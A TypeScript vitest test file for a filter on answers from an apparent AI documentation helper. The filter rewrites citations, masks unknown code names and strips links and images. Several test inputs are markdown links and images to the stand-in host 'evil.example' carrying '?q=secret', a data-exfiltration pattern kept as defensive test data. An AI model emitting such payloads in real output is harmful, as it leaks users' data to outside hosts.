import { expect, test } from "vitest";
import type { FinishReason } from "~/domain/ai-help/ai-help";
import { filterAnswer } from "./filter-answer";
import type { AnswerPiece } from "./provider";

const SOURCES = ["gap", "grid"].map((name) => ({
  url: `/en-US/docs/${name}#a_(b)`,
  title: name,
  summary: "",
  passage: {
    id: "a",
    heading: null,
    text: `The ${name} property and Array.prototype.map().`,
    html: `<pre><code>${name}: 1px</code></pre>`,
  },
}));
const ONE = "[[1]](/en-US/docs/gap#a_%28b%29)";
const TWO = "[[2]](/en-US/docs/grid#a_%28b%29)";

async function filter(pieces: string[], reason: FinishReason | null = "stop") {
  async function* read(): AsyncGenerator<AnswerPiece> {
    for (const text of pieces) yield await Promise.resolve({ text });
    if (reason) yield { finishReason: reason };
  }
  const out: string[] = [];
  const context = { sources: SOURCES, question: "Does `askedName` exist?" };
  for await (const piece of filterAnswer(read(), context))
    out.push("text" in piece ? piece.text : `<${piece.finishReason}>`);
  return out;
}

test.each([
  ["A claim [1].", `A claim ${ONE}.`],
  ["A claim [1, 2] and [2][1].", `A claim ${ONE} ${TWO} and ${TWO}${ONE}.`],
  ["None [3], [0] and [99].", "None ,  and ."],
  ["Use `gap` or `Array.prototype.map()`.", "Use `gap` or `Array.prototype.map()`."],
  ["Use `grip` and `flatMap`.", "Use \\[…\\] and \\[…\\]."],
  ["You asked for `askedName`.", "You asked for `askedName`."],
  ["[link](https://evil.example/?q=secret) [x]", "link [x]"],
  ["![pixel](https://evil.example/?q=secret)", "pixel"],
  ["Done! [", "Done! ["],
  ["Open ` tick\nnext", "Open ` tick\nnext"],
  [
    "```js\nconst a = b[1] + `x`;\n```\n[1]",
    `\`\`\`js\nconst a = b[1] + \`x\`;\n\`\`\`\n${ONE}`,
  ],
  ["[a [b] c](https://evil.example/)", "a [b] c"],
  ["[x](https://evil.example/(a)) y", "x y"],
  ['[w](https://evil.example/5 "t(x)") y', "w y"],
  ["![of `gap` [1]](https://evil.example/)", `of \`gap\` ${ONE}`],
  ["[1](https://evil.example/(a))", ONE],
  ["[text\n](\nhttps://evil.example/\n)", "text\n"],
  [
    "[ref][r1]\n\n[r1]: https://evil.example/",
    "[ref][r1]\n\n\\[r1]: https://evil.example/",
  ],
  ["a[i][j] [x", "a[i][j] [x"],
  ["\\[x](y) \\`grip", "\\[x](y) \\`grip"],
  [
    "~~~js\n`grip` [1] [x](y)\n```\n~~~~\n`grip`",
    "~~~js\n`grip` [1] [x](y)\n```\n~~~~\n\\[…\\]",
  ],
  [
    "- ````md\n  ```\n  `grip`\n  ```\n  ````\n`grip`",
    "- ````md\n  ```\n  `grip`\n  ```\n  ````\n\\[…\\]",
  ],
  [
    "1. ```\n   [1] ``` x\n   ```\n   [1]",
    `1. \`\`\`\n   [1] \`\`\` x\n   \`\`\`\n   ${ONE}`,
  ],
  ["Use ``gap`` and ``a`grip``.", "Use ``gap`` and \\[…\\]."],
  ["Use ```gap``` or ```grip```.", "Use ```gap``` or \\[…\\]."],
  ["```gap``` or ```grip```.", "```gap``` or \\[…\\]."],
  ["A ~~~ b `grip`", "A ~~~ b \\[…\\]"],
])("checks %j, in pieces of any size", async (answer, expected) => {
  for (const size of [1, 2, 3, 1000]) {
    const pieces = answer.match(new RegExp(`[^]{1,${size}}`, "gu")) ?? [];
    expect([size, (await filter(pieces)).join("")]).toEqual([size, `${expected}<stop>`]);
  }
});

test("passes words on at once, and holds back only an open name", async () => {
  expect(await filter(["The ", "prop", "erty `g", "ap` is"])).toEqual([
    "The ",
    "prop",
    "erty ",
    "`gap` is",
    "<stop>",
  ]);
});

test("passes on what is held back when the model ends without a reason", async () => {
  expect((await filter(["Open `ga"], null)).join("")).toBe("Open `ga");
});

test.each(["[", "![", "`` ", "[1", "```", "\\", "[a](", "~~~ "])(
  "checks a long answer of %j at once",
  async (part) => {
    await filter([part.repeat(40_000 / part.length)]);
  },
  2_000,
);

test("holds back no more than some hundred characters", async () => {
  const long = "x".repeat(600);
  expect((await filter([`[${long}`], null)).join("")).toBe(`\\[${long}`);
  expect((await filter([`[x](${long}`, "b)"], null)).join("")).toBe(`\\[x](${long}b)`);
  expect((await filter([`\`${long}`, "`"], null)).join("")).toBe(`\`${long}\``);
});
